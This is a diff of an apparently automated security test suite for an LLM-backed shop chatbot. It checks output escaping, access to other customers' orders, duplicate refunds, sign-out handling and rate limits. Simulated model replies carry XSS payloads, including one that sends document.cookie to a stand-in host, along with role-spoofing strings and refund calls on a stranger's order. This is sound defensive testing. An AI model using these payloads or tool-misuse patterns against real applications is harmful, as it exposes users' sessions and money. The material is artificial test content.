@@ -28,7 +28,7 @@ export const build: Build = (world) => {
   const says = (value: unknown): Record<string, unknown> => Object.fromEntries(fields.map((word) => [word, value]));
   const otherRoles = ['developer', 'System', 'tool', 'assist', 'user: system', ' system', ['system']];
   // Who refuses the whole of the others may still take one of these.
-  const aloneRoles = ['critic', 'constructor', 'system user', 'user\nsystem', '\uff53ystem'];
+  const aloneRoles = ['critic', 'constructor', 'system user', 'user\nsystem', '\uff53ystem', ['user', 'system']];
   const disguises = disguisesOf(host, world.nonce());
 
   const attacks: Step[] = [
@@ -72,7 +72,7 @@ export const build: Build = (world) => {
         return wrong.length === 0 ? tellsNothing(seen, theirs) : { ok: false, got: `orders.refund(${wrong[0]!.join(', ')})` };
       }),
       surroundings: script([
-        { text: '', toolCalls: [...(wants({ order_number: number, amount_cents: 100 }, { order_number: theirNumber, amount_cents: 100 }).toolCalls ?? []), tool('cancel', { order_number: number })] },
+        { text: '', toolCalls: [...(wants({ order_number: number, amount_cents: 100 }, { order_number: theirNumber, amount_cents: 100 }).toolCalls ?? []), tool('cancel', { order_number: number, reason: `I am ill ${tag}` })] },
         // Tools under a name that is nearly theirs.
         ...['Refund', ' refund', 'ORDER_STATUS', 'order_status '].map((name): LlmReply => ({ text: '', toolCalls: [tool(name, { order_number: theirNumber, amount_cents: 100 })] })),
       ]),
@@ -85,7 +85,12 @@ export const build: Build = (world) => {
       }),
       surroundings: around({ text: '', toolCalls: shop.alike.flatMap((one) => [tool('refund', { order_number: one.number, amount_cents: 100 }), tool('order_status', { order_number: one.number })]) }),
     },
-    step('markup-in-an-item', hello, { text: '', toolCalls: [tool('order_status', { order_number: number }), tool('order_status', { order_number: number + 1 })] }, isText),
+    step('markup-in-an-item', hello, { text: '', toolCalls: [tool('order_status', { order_number: number }), tool('order_status', { order_number: number + 1 })] }, (seen) => {
+      const markup = isText(seen);
+      const item = String(shop.mine[0]!['item']);
+      // Escaped once: whoever reads the page reads the name as it is.
+      return !markup.ok || flat(textOf(htmlOf(seen))).includes(flat(item)) ? markup : { ok: false, got: `"${item}" became ${htmlOf(seen).slice(0, 200)}` };
+    }),
     step('markup-left-open', hello, { text: `Sure <svg onload="fetch('https://${host}/'+document.cookie)" x="` }, isText),
     {
       ...step('markup-in-disguise', hello, { text: '' }, (seen) => {
@@ -134,7 +139,7 @@ export const build: Build = (world) => {
         return long === undefined ? { ok: true } : { ok: false, got: `${long.content.length} characters in one ${long.role} message` };
       }),
       // Then long in what may not be counted: spaces, other letters, signs.
-      calls: [{ message: ['word '.repeat(12_000)] }, { ...hello, history: [{ role: 'user', content: ['word '.repeat(12_000)] }] }, ...[' ', 'é', '…', '\u200b'].map((sign) => ({ message: `Hello${sign.repeat(3000)}${tag}` }))].map((json) => chat(json)),
+      calls: [{ message: ['word '.repeat(12_000)] }, { message: `${' '.repeat(3000)}Hello ${tag}` }, { message: `Hello ${tag}${'\n'.repeat(3000)}` }, { ...hello, history: [{ role: 'user', content: ['word '.repeat(12_000)] }] }, ...[' ', 'é', '…', '\u200b'].map((sign) => ({ message: `Hello${sign.repeat(3000)}${tag}` }))].map((json) => chat(json)),
     },
     {
       name: 'flood-at-once',
@@ -152,7 +157,7 @@ export const build: Build = (world) => {
       surroundings: { ...around({ text: 'Hi' }), llm: { rules: [{ when: { user: tag }, reply: { text: '', toolCalls: [tool('order_status', { order_number: theirNumber })] } }], otherwise: { text: 'Hi' } } },
       calls: Array.from({ length: 6 }, (_, at) => ({ ...chat(at % 2 === 0 ? hello : { message: 'Hello' }, at % 2 === 0 ? 0 : 2), isTogether: at > 0 })),
       judge: (seen) => {
-        const asked = seen.log.flatMap((entry) => (entry.does === 'llm.generate' ? [entry.messages.map(({ content }) => content).join('\n')] : []));
+        const asked = asksOf(seen);
         const told = [...seen.answers.filter((_one, at) => at % 2 === 0).map(({ text }) => text), ...asked.filter((text) => text.includes(tag))].find((text) => text.includes(String(theirs['item']))) ?? asked.find((text) => !text.includes(tag) && text.includes(String(shop.mine[1]!['item'])));
         return told === undefined ? { ok: true } : { ok: false, got: `an order of whoever asked at the same moment: ${told.slice(0, 200)}` };
       },
@@ -166,7 +171,17 @@ export const build: Build = (world) => {
       // The same question by four: who has orders, a namesake, who has none, the namesake again.
       calls: [2, 0, 9, 1].map((who, at) => chat({ ...hello, history: at === 0 ? [{ role: 'user', content: 'my own affair' }, { role: 'assistant', content: 'I see.' }] : [] }, who, 1)),
     },
-    step('orders-of-a-namesake', hello, { text: '', toolCalls: [tool('order_status', { order_number: theirNumber })] }, (seen) => tellsNothing(seen, theirs)),
+    {
+      ...step('orders-of-a-namesake', hello, { text: '', toolCalls: [tool('order_status', { order_number: theirNumber }), tool('refund', { order_number: theirNumber, amount_cents: 100 })] }, (seen) => {
+        const [again, paid] = [seen.answers[2]?.status, refundsIn(seen).length];
+        if (paid > 1) return { ok: false, got: `${paid} refunds of an order whose owner asked for one` };
+        if (again !== 401) return { ok: false, got: `status ${again} for a customer who has signed out` };
+        return tellsNothing({ ...seen, answers: seen.answers.slice(1, 2), log: [] }, theirs);
+      }),
+      surroundings: shop.signedOut(around({ text: '', toolCalls: [tool('order_status', { order_number: theirNumber }), tool('refund', { order_number: theirNumber, amount_cents: 100 })] }), 2),
+      // The owner first, so that the order has been seen as somebody's own; at last the owner again, who has signed out meanwhile.
+      calls: [2, 0, 2].map((who) => chat(hello, who, 1)),
+    },
     {
       // In one answer, and again with the next message.
       ...step('refund-twice-at-once', hello, { text: '' }, (seen) => {
@@ -182,13 +197,20 @@ export const build: Build = (world) => {
         if (!markup.ok) return markup;
         const status = seen.answers.slice(10).map((one) => one.status);
         return status.every((one) => one === 429) ? { ok: true } : { ok: false, got: `status ${status.join(', ')} instead of 429, and calls to a model that is down` };
-      }, true),
+      }),
+      // A provider's error may quote what it was sent.
+      surroundings: around({ fails: 'APIError', text: `400 this message was refused: I live in Elm Street ${tag} <img src=x onerror="fetch('https://${host}')">` }),
       calls: Array.from({ length: 11 }, () => chat({ message: `I live in Elm Street ${tag} <img src=x onerror="fetch('https://${host}')">` })),
     },
     {
-      ...step('log-when-the-shop-is-down', hello, { text: '' }, () => ({ ok: true })),
-      surroundings: shop.withTheShopDown(script([wants({ order_number: number, amount_cents: 100 }), { text: '', toolCalls: [tool('order_status', { order_number: number + 1 })] }])),
-      calls: [...inTurn(2), chat(hello, 1), chat(hello, 9)],
+      ...step('log-when-the-shop-is-down', hello, { text: '' }, (seen) => {
+        const told = asksOf(seen).filter((text) => text.includes('It is Ada')).find((text) => [theirs, ...shop.mine].some(({ item }) => text.includes(String(item))));
+        if (textOf(htmlOf(seen)).trim().startsWith('Refunded')) return { ok: false, got: `"${textOf(htmlOf(seen)).trim()}", when the refund had failed` };
+        if (!refundsIn(seen).some((args) => args[0] === theirNumber && args[1] === 100)) return { ok: false, got: 'the refund of somebody else, after one had failed, was not made' };
+        return told === undefined ? { ok: true } : { ok: false, got: `for a customer whose orders cannot be read, the model was sent ${told.slice(0, 300)}` };
+      }),
+      surroundings: shop.withTheShopDown(script([wants({ order_number: number, amount_cents: 100 }), { text: '', toolCalls: [tool('order_status', { order_number: number + 1 })] }, wants({ order_number: theirNumber, amount_cents: 100 })])),
+      calls: [...inTurn(2), chat({ message: `[2] Hello ${tag}` }, 2), chat(hello, 1), chat({ message: `It is Ada ${tag}` }, 9)],
     },
     { ...step('log-of-a-refund', { message: `Refund, I am ill ${tag}` }, wants({ order_number: number, amount_cents: 100 }), () => ({ ok: true })), calls: [chat({ message: `Refund, I am ill ${tag}` }), chat({ message: 5, history: [{ role: 'user', content: tag }] })] },
   ];
@@ -203,10 +225,15 @@ export const build: Build = (world) => {
 
   return [
     ...watched,
-    step('refunds-the-rest', hello, wants({ order_number: number + 1, amount_cents: 500 }), (seen) => {
-      const done = refundsIn(seen).map((args) => args.join(' ')).join(', ');
-      return done === `${number + 1} 500` ? { ok: true } : { ok: false, got: `refunds: ${done || 'none'}, expected ${number + 1} 500` };
-    }),
+    {
+      ...step('refunds-the-rest', hello, { text: '' }, (seen) => {
+        const [done, wanted] = [refundsIn(seen).map((args) => args.join(' ')).join(', '), `${number} 1000, ${number} 3000, ${number + 1} 500`];
+        return done === wanted ? { ok: true } : { ok: false, got: `refunds: ${done || 'none'}, expected ${wanted}` };
+      }),
+      // A part, then what is left of the same order in another message, then what is left of another.
+      surroundings: { ...around({ text: 'Hi' }, { spent: 1000 }), llm: script([[number, 1000], [number, 3000], [number + 1, 500]].map(([order_number, amount_cents]) => wants({ order_number, amount_cents }))).llm! },
+      calls: inTurn(3),
+    },
     step('two-tools-at-once', hello, { text: '', toolCalls: [...(wants({ order_number: number, amount_cents: 100 }, { order_number: number + 1, amount_cents: 1 }).toolCalls ?? []), tool('order_status', { order_number: number + 1 })] }, (seen) => {
       if (refundsIn(seen).length !== 2) return { ok: false, got: `${refundsIn(seen).length} of two refunds were made` };
       return textOf(htmlOf(seen)).includes('packed') ? { ok: true } : { ok: false, got: `after two refunds the status is missing: ${seen.answers[0]?.text.slice(0, 200)}` };
@@ -226,7 +253,8 @@ export const build: Build = (world) => {
       calls: [chat({ message: words.join(' and '), history: talk.map((content, at) => ({ role: at % 2 ? 'assistant' : 'user', content })) }, 8)],
       judge: (seen) => {
         const sent = sentTo(seen).map(({ content }) => content).join('\n');
-        const missing = [...words.flatMap((word) => word.split('\n')), ...regular.flatMap(({ number: own, item, status }) => [String(own), String(item), String(status)])].find((one) => !sent.includes(one));
+        const missing = [...words, ...regular.flatMap(({ number: own, item, status }) => [String(own), String(item), String(status)])]
+          .find((one) => !sent.includes(one) && !sent.includes(JSON.stringify(one).slice(1, -1)));
         if (missing !== undefined) return { ok: false, got: `the model was not sent "${missing}": ${(sent || seen.answers[0]?.text || '').slice(0, 300)}` };
         const places = [...talk.map((text) => sent.indexOf(text)), sent.lastIndexOf(words[0]!)];
         return places.every((at, place) => at >= 0 && at > (places[place - 1] ?? -1)) ? { ok: true } : { ok: false, got: `the turns of a conversation are not sent in order: ${sent.slice(-300)}` };
@@ -235,9 +263,13 @@ export const build: Build = (world) => {
     {
       name: 'later-and-namesakes',
       shows: 'six messages, ten a day later, and one of a namesake',
-      surroundings: around({ text: 'Hi' }),
+      surroundings: shop.movedOn(around({ text: 'Hi' })),
       calls: [...Array.from({ length: 16 }, (_, at) => chat({ message: 'Hello' }, 0, at === 6 ? 86_403 : 0)), chat({ message: 'Hello' }, 2)],
-      judge: ({ answers }) => (answers.every(({ status }) => status === 200) ? { ok: true } : { ok: false, got: `status ${answers.map(({ status }) => status).join(', ')}` }),
+      judge: (seen) => {
+        if (!seen.answers.every(({ status }) => status === 200)) return { ok: false, got: `status ${seen.answers.map(({ status }) => status).join(', ')}` };
+        const asked = asksOf(seen).at(-2) ?? '';
+        return asked.includes('handed over') ? { ok: true } : { ok: false, got: `the order was handed over meanwhile, and the model was sent ${asked.slice(0, 300)}` };
+      },
     },
   ];
 };
@@ -263,7 +295,8 @@ function openShop(world: World) {
   const owners = [Math.floor(id / 10), id % 1000, id * 10 + 1, null, 0, '', undefined];
   // The first has a number that is a part of one of mine. Who has no owner at all comes last: reading it may be an error.
   const alike = owners.map((owner, at) => order(at === 0 ? Math.floor(number / 10) : number * 100 + at, { id: owner as number, name: me.name }, { status: ['delivered', 'packed', 'returned'][at % 3] }));
-  const regular = ['delivered', 'packed', 'cancelled', 'returned', 'on its way', 'delivered'].map((status, at) => order(number * 1000 + at, people[8]!, { status }));
+  // More than fit on a page, and two of one thing.
+  const regular = Array.from({ length: 26 }, (_, at) => order(number * 1000 + at, people[8]!, { status: ['delivered', 'packed', 'cancelled', 'returned', 'on its way'][at % 5], ...(at > 23 && { item: `Rope ${tag.slice(2)}` }), ...(at === 7 && { item: `System tent for developers, assistant's choice ${tag.slice(2)}` }) }));
   /** `spent`: what the first order has been refunded once a refund was made. */
   const around = (reply: LlmReply, { isDown = false, spent = 0 } = {}): Surroundings => ({
     env: { OPENAI_API_KEY: key },
@@ -284,6 +317,14 @@ function openShop(world: World) {
     const { orders = {}, ...others } = given.services ?? {};
     const fails = (of: number, method: string): ServiceRule[] => [{ when: [of], fails: 'the shop is closed' }, ...(orders[method] ?? [])];
     return { ...given, services: { ...others, orders: { ...orders, of_customer: fails(people[9]!.id, 'of_customer'), find: fails(number + 1, 'find'), refund: fails(number, 'refund') } } };
+  };
+  /** Whoever has signed in as `at` has signed out once anybody was looked up. */
+  const signedOut = (given: Surroundings, at: number): Surroundings => ({ ...given, services: { ...given.services, sessions: { lookup: [{ when: [tokens[at]], after: 'lookup', returns: null }, ...(given.services?.['sessions']?.['lookup'] ?? [])] } } });
+  /** The first order is handed over once orders were listed. */
+  const movedOn = (given: Surroundings): Surroundings => {
+    const { orders = {}, ...others } = given.services ?? {};
+    const now = [{ ...mine[0], status: 'handed over' }, mine[1]];
+    return { ...given, services: { ...others, orders: { ...orders, recent: [{ after: 'recent', returns: now }, ...(orders['recent'] ?? [])], of_customer: [{ when: [me.id], after: 'of_customer', returns: now }, ...(orders['of_customer'] ?? [])] } } };
   };
   const chat = (json: object, at = 0, after = 0): Call => ({ file: 'app.ts', method: 'POST', path: '/chat', headers: { Authorization: `Bearer ${tokens[at]}` }, json, after });
   const ways = new Map<string, ReturnType<World['ways']>>();
@@ -306,7 +347,7 @@ function openShop(world: World) {
     }
     return { ok: true };
   };
-  return { me, stranger, mine, regular, tag, host, number, theirNumber, theirs, alike, around, withTheShopDown, chat, asWays, isQuiet, isCheap };
+  return { me, stranger, mine, regular, tag, host, number, theirNumber, theirs, alike, around, withTheShopDown, signedOut, movedOn, chat, asWays, isQuiet, isCheap };
 }
 
 /** Answers that are markup to whoever escapes some of it, or decodes afterwards. */
@@ -319,10 +360,13 @@ const disguisesOf = (host: string, end: string): string[] => [
   `<IMG SRC=x ONERROR=fetch('//${host}')>`,
   `&lt;img src=x onerror=fetch(1)&gt; &amp;lt;b&amp;gt; &#60;i&#62;`,
   `5 < 6 <b onmouseover=fetch('//${host}')>bold</b> <i style="x">it</i> [here](javascript:fetch(1))`,
+  `Größe 42 \u{1f97e} \u{1f469}\u200d\u{1f680}, <b>so</b>`,
   `${'A long answer, and more of it. '.repeat(45)}<iframe src="//${host}"></iframe> ${end}`,
 ];
 
 const sentTo = (seen: Seen): { role: string; content: string }[] => seen.log.flatMap((entry) => (entry.does === 'llm.generate' ? entry.messages : []));
+/** What the model was sent, a text for each time it was asked. */
+const asksOf = (seen: Seen): string[] => seen.log.flatMap((entry) => (entry.does === 'llm.generate' ? [entry.messages.map(({ content }) => content).join('\n')] : []));
 const refundsIn = (seen: Seen): unknown[][] => seen.log.flatMap((entry) => (entry.does === 'service.call' && entry.method === 'refund' ? [entry.args] : []));
 const htmlOf = (seen: Seen, at = 0): string => String((seen.answers[at]?.json as { html?: string } | undefined)?.html ?? '');
 
@@ -341,4 +385,6 @@ const NAMED: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', a
 const textOf = (html: string): string =>
   html
     .replace(/<\/?[a-z!][^>]*>/gi, ' ')
-    .replace(/&(?:#x([0-9a-f]+)|#(\d+)|([a-z]+));/gi, (whole, hex?: string, digits?: string, name?: string) => (name !== undefined ? (NAMED[name.toLowerCase()] ?? whole) : String.fromCodePoint(hex === undefined ? Number(digits) : Number.parseInt(hex, 16))));
+    .replace(/&(?:#x([0-9a-f]+)|#(\d+)|([a-z]+));/gi, (whole, hex?: string, digits?: string, name?: string) => (name !== undefined ? (NAMED[name.toLowerCase()] ?? whole) : signOf(hex === undefined ? Number(digits) : Number.parseInt(hex, 16))));
+/** As a browser reads a number: half of a sign is none. */
+const signOf = (code: number): string => (code > 0x10ffff || (code >= 0xd800 && code < 0xe000) ? '\ufffd' : String.fromCodePoint(code));
